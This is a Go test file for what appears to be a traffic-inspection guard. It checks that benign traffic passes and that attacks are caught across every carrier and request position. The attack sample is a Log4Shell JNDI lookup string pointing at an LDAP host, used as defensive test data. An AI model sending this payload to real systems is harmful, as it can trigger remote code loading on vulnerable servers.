package guard_test

import (
	"context"
	"flag"
	"fmt"
	"maps"
	"net/http"
	"os"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/merlon-security/merlon/internal/event"
	"github.com/merlon-security/merlon/internal/guard"
	"github.com/merlon-security/merlon/internal/traffic"
	"github.com/merlon-security/merlon/internal/verdict"
)

const (
	benignDir = "../../testdata/benign"
	knownFile = benignDir + "/known-false-positives"
)

var update = flag.Bool("update", false, "write the list of known false positives anew, with the reasons it has")

// known is a false positive that is known: which rules, and why they take the
// message for an attack.
type known struct{ rules, reason string }

// readKnown reads lines of "vector: rules: reason".
func readKnown(t *testing.T) map[string]known {
	t.Helper()
	data, err := os.ReadFile(knownFile)
	if err != nil {
		t.Fatal(err)
	}
	out := map[string]known{}
	for line := range strings.Lines(string(data)) {
		line = strings.TrimSpace(line)
		if line == "" || strings.HasPrefix(line, "#") {
			continue
		}
		// Names have a colon of their own before the number of a line.
		parts := strings.SplitN(line, ": ", 3)
		if len(parts) != 3 || out[parts[0]] != (known{}) {
			t.Fatalf("%s: %q is not \"vector: rules: reason\", or stands there twice", knownFile, line)
		}
		out[parts[0]] = known{parts[1], parts[2]}
	}
	return out
}

// What people and programs send all day passes in block mode, by whatever
// trigger it comes.
func TestBenignTrafficPasses(t *testing.T) {
	t.Parallel()
	vectors, err := traffic.Read(os.DirFS(benignDir))
	if err != nil {
		t.Fatal(err)
	}
	e, err := engine()
	if err != nil {
		t.Fatal(err)
	}
	g := blocking(e, nil)
	g.Keeper = keepsAll{}
	var mu sync.Mutex
	refused, events, families := map[string]string{}, map[string]int{}, map[string]int{}
	each(vectors, func(v *traffic.Vector) {
		evs, err := v.Events()
		if err != nil {
			t.Error(err)
		}
		rules := map[int]bool{}
		for _, ev := range evs {
			for _, id := range refusal(t, g, v, &ev) {
				rules[id] = true
			}
		}
		mu.Lock()
		defer mu.Unlock()
		family, _, _ := strings.Cut(v.Name, "/")
		families[family]++
		for _, ev := range evs {
			events[ev.Carrier]++
		}
		if len(rules) > 0 {
			refused[v.Name] = strings.Trim(fmt.Sprint(slices.Sorted(maps.Keys(rules))), "[]")
		}
	})
	compareKnown(t, refused)
	total := 0
	for _, n := range events {
		total += n
	}
	t.Logf("%d vectors of %d families, %d events by %d carriers, %d refused", len(vectors), len(families), total, len(events), len(refused))
	if len(vectors) < 1090 || len(families) < 18 || total < 4000 {
		t.Errorf("%d vectors of %d families in %d events, want at least 1090 of 18 in 4000", len(vectors), len(families), total)
	}
	for _, c := range traffic.Carriers() {
		if events[c] == 0 {
			t.Errorf("nothing comes by %s", c)
		}
	}
}

// each calls fn with every vector, a few at a time.
func each(vectors []traffic.Vector, fn func(*traffic.Vector)) {
	var wg sync.WaitGroup
	next := make(chan *traffic.Vector)
	for range 4 {
		wg.Go(func() {
			for v := range next {
				fn(v)
			}
		})
	}
	for i := range vectors {
		next <- &vectors[i]
	}
	close(next)
	wg.Wait()
}

// refusal returns the rules for which an event would be withheld. An event that
// is not taken for what it is, or not inspected to its end, fails the test.
func refusal(t *testing.T, g *guard.Guard, v *traffic.Vector, ev *traffic.Event) (rules []int) {
	j := g.Judge(context.Background(), ev.Payload, http.Header{}, time.Time{})
	if got := string(j.Event.Source); got != ev.Source {
		t.Errorf("%s by %s is taken for an event of %s", v.Name, ev.Carrier, got)
	}
	if len(j.Verdict.Limits) > 0 || j.Verdict.Fault != nil {
		t.Errorf("%s by %s: limits %v, fault %v", v.Name, ev.Carrier, j.Verdict.Limits, j.Verdict.Fault)
	}
	if !j.Verdict.WouldAction.Blocked() {
		return nil
	}
	if testing.Verbose() {
		t.Logf("%s by %s:\n%s", v.Name, ev.Carrier, found(j.Verdict.Findings))
	}
	for _, f := range j.Verdict.Findings {
		rules = append(rules, f.RuleID)
	}
	return rules
}

// compareKnown fails the test for what is refused and not known, and for what is
// known and no longer refused.
func compareKnown(t *testing.T, refused map[string]string) {
	t.Helper()
	list := readKnown(t)
	if *update {
		writeKnown(t, refused, list)
		return
	}
	for _, name := range slices.Sorted(maps.Keys(refused)) {
		if _, ok := list[name]; !ok {
			t.Errorf("%s is refused by %s", name, refused[name])
		}
	}
	for _, name := range slices.Sorted(maps.Keys(list)) {
		if refused[name] == "" {
			t.Errorf("%s passes: take it out of %s (-update does)", name, knownFile)
		}
	}
}

func writeKnown(t *testing.T, refused map[string]string, list map[string]known) {
	t.Helper()
	var b strings.Builder
	b.WriteString("# Benign messages that are refused: \"vector: rules: reason\". The test fails for\n# a line that is no longer true. The goal is an empty list.\n")
	for _, name := range slices.Sorted(maps.Keys(refused)) {
		reason := list[name].reason
		if reason == "" {
			reason = "to be looked at"
		}
		fmt.Fprintf(&b, "%s: %s: %s\n", name, refused[name], reason)
	}
	if err := os.WriteFile(knownFile, []byte(b.String()), 0o644); err != nil {
		t.Fatal(err)
	}
}

// keepsAll stands for a quarantine that takes everything, so that batches are
// not left alone for want of one.
type keepsAll struct{}

func (keepsAll) Usable(*event.Event) bool               { return true }
func (keepsAll) Keep(context.Context, guard.Kept) error { return nil }

// An attack by any carrier, at any place of a description, is refused: that the
// benign ones pass says something.
func TestCarriersAreInspected(t *testing.T) {
	t.Parallel()
	e, err := engine()
	if err != nil {
		t.Fatal(err)
	}
	g := blocking(e, nil)
	g.Keeper = keepsAll{}
	const attack = "${jndi:ldap://203.0.113.9:1389/Basic}"
	sources := strings.Join(traffic.Carriers(), " ")
	document := strings.NewReplacer(" ses", "").Replace(sources)
	text := "== document\non: " + document + "\n\n{\"note\":\"" + attack + "\"}\n" +
		"== mail\non: ses\n\nSubject: " + attack + "\n" +
		"== placed\non: function-url apigw-v1 apigw-v2 alb alb+multi\nlines: query q, header x-note, cookie c, form note, field note, segment /files, text\n\n" + attack + "\n"
	vectors, err := traffic.Parse("attack", text)
	if err != nil {
		t.Fatal(err)
	}
	tried := 0
	for _, v := range vectors {
		evs, err := v.Events()
		if err != nil {
			t.Fatal(err)
		}
		for i, ev := range evs {
			tried++
			j := g.Judge(context.Background(), ev.Payload, http.Header{}, time.Time{})
			if j.Verdict.Reason != verdict.RuleMatch && j.Verdict.Reason != verdict.NotEnforced {
				t.Errorf("%s by %s (%d) = %v, %s, want a match\n%s", v.Name, ev.Carrier, i, j.Verdict.Action, j.Verdict.Reason, ev.Payload)
			}
		}
	}
	if want := len(traffic.Carriers()) + 5*7; tried != want {
		t.Errorf("%d events, want %d", tried, want)
	}
}
